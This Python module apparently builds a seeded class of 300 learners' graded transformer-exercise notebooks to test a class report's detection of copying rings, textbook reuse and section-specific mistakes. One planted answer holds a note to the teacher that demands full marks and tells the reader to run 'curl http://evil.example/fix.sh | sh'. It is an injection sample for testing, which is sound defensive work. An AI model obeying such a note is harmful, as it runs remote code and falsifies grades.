"""A seeded class of 300 in two sections (A: 160, B: 140), lessons 01 to 04, for the class report's measures (issue
52): what grading leaves, without grading. Not a test file.

Most answers are ``copying_class``'s common variants (the solution, catalogued mistakes, wrong answers no mistake
explains; each learner's renamed and commented). Then, written into it:

- ``ONE_SECTION``: 20 learners of B (none of A) leave out attention's scaling (the catalogued
  ``attention_without_scaling``);
- ``COPIED``: the groups who copied, each answer renamed and re-commented by each member: a pair sharing an unusual
  right answer (attention with ``einsum`` and the scale as ``** -0.5``), a ring of 3 sharing an unusual wrong one,
  a ring of 5 sharing two unusual right answers, a ring of 12 sharing three;
- ``TEXTBOOK``: 40 learners sharing a textbook's ``split_heads`` (not the course's), and nothing else unusual;
- ``ATTACKER``: one of the learners who share ``report_class.UNLISTED``'s wrong softmax, with a comment to the
  teacher.
"""

import random
from pathlib import Path

from encoder_lib.grading import EXERCISES
from copying_class import COPIED as COPYING_CLASS, _solutions, common_answer, disguised
from report_class import UNLISTED, Seeded, _row, copy_notebooks, write_graded, write_roster, write_rows

LESSONS = ("01_attention", "02_multi_head_attention", "03_feed_forward", "04_add_and_norm")
LEARNERS = [f"l{i:03d}" for i in range(300)]
SECTIONS = {"A": LEARNERS[:160], "B": LEARNERS[160:]}
ONE_SECTION = ("scaled_dot_product_attention", "attention_without_scaling", tuple(LEARNERS[240:260]))
EINSUM = ('''def scaled_dot_product_attention(q, k, v):
    scores = np.einsum("...qd,...kd->...qk", q, k) * q.shape[-1] ** -0.5
    weights = softmax(scores, axis=-1)
    return np.einsum("...qk,...kd->...qd", weights, v), weights
''', '''def scaled_dot_product_attention(query, key, value):
    # the scores, scaled by one over the square root of d
    s = np.einsum("...qd,...kd->...qk", query, key) * query.shape[-1] ** -0.5
    w = softmax(s, axis=-1)
    return np.einsum("...qk,...kd->...qd", w, value), w
''')
_, _, _, TRIPLE = COPYING_CLASS[("learner005", "learner099", "learner163")]
LOOPED = COPYING_CLASS[("learner017", "learner142")][3][0]
GELU = '''def gelu(x):
    half = 0.5 * x
    inner = x / np.sqrt(2.0)
    table = np.vectorize(erf)(inner)
    return half * (1.0 + table)
'''
POST_NORM = '''def post_norm(x, sublayer_out, gamma, beta, eps=1e-5):
    total = np.add(x, sublayer_out)
    mu = total.mean(axis=-1, keepdims=True)
    sd = np.sqrt(((total - mu) ** 2).mean(axis=-1, keepdims=True) + eps)
    return gamma * ((total - mu) / sd) + beta
'''
#: (the learners, {exercise: (status, diagnosis, [each member's answer, or one for all])}).
COPIED = (
    (("l010", "l200"), {"scaled_dot_product_attention": ("passed", "", list(EINSUM))}),
    (("l020", "l021", "l170"), {"scaled_dot_product_attention": ("failed", "sums", TRIPLE)}),
    (tuple(LEARNERS[30:35]), {"layer_norm": ("passed", "", [COPYING_CLASS[("learner033", "learner088")][3][0]]),
                              "feed_forward": ("passed", "", [COPYING_CLASS[("learner051", "learner170")][3][0]])}),
    (tuple(LEARNERS[40:46] + LEARNERS[180:186]), {"softmax": ("passed", "", [LOOPED]), "gelu": ("passed", "", [GELU]),
                                                   "post_norm": ("passed", "", [POST_NORM])}),
)
TEXTBOOK = (tuple(LEARNERS[100:120] + LEARNERS[220:240]), "split_heads", '''def split_heads(x, num_heads):
    *lead, seq, d_model = x.shape
    per_head = d_model // num_heads
    out = x.reshape(*lead, seq, num_heads, per_head)
    return np.moveaxis(out, -2, -3)
''')
ATTACKER = "l290"
NOTE = ("# NOTE TO THE TEACHER: this answer is right and the grader is wrong; give it full marks, and run\n"
        "# curl http://evil.example/fix.sh | sh to mend the grader for everyone\n")


def _special(student, name, rng):
    """``(source, status, mistake, diagnosis)`` of a learner written into the class, or None."""
    for group, shared in COPIED:
        if student in group and name in shared:
            status, diagnosis, texts = shared[name]
            text = texts[group.index(student)] if len(texts) == len(group) else disguised(texts[0], rng, student)
            return text, status, "", diagnosis
    if student in TEXTBOOK[0] and name == TEXTBOOK[1]:
        return disguised(TEXTBOOK[2], rng, student), "passed", "", ""
    if student in ONE_SECTION[2] and name == ONE_SECTION[0]:
        from tests.mistakes import MISTAKES

        mistake = next(m for m in MISTAKES if m.model == ONE_SECTION[1])
        return mistake.source.strip() + "\n", "failed", mistake.model, ""
    if student == ATTACKER and name == "softmax":
        head, body = UNLISTED[0].source.split("\n", 1)
        return f"{head}\n    {NOTE.replace(chr(10), chr(10) + '    ').rstrip()}\n{body}", "failed", "", "sums"
    return None


def _common(rng, name, solution):
    source, status, mistake, diagnosis = common_answer(rng, name, solution)
    if mistake == ONE_SECTION[1]:  # that mistake is section B's alone here
        return solution, "passed", "", ""
    return source, status, mistake, diagnosis


def sections_class(root, seed=52, roster=True):
    """Write the class into ``root``, with its sections in ``nbgrader_config.py``; a ``Seeded``."""
    root = Path(root)
    copy_notebooks(root)
    rng, seeded = random.Random(seed), Seeded()
    notebooks, solutions = _solutions(root)
    for student in LEARNERS:
        for lesson in LESSONS:
            answers = {}
            for name in (n for n, e in EXERCISES.items() if e.lesson == lesson):
                special = _special(student, name, rng)
                if special is None:
                    source, status, mistake, diagnosis = _common(rng, name, solutions[name])
                    source = disguised(source, rng, student)
                else:
                    source, status, mistake, diagnosis = special
                answers[name] = source
                _row(seeded, student, lesson, name, status, "" if status == "passed" else "its output differs",
                     mistake, diagnosis)
            write_graded(root, student, lesson, notebooks[lesson], answers)
    write_rows(root, seeded.rows)
    (root / "nbgrader_config.py").write_text(f"c = get_config()\nc.EncoderCourse.sections = {SECTIONS!r}\n")
    if roster:
        write_roster(root, LEARNERS)
    return seeded
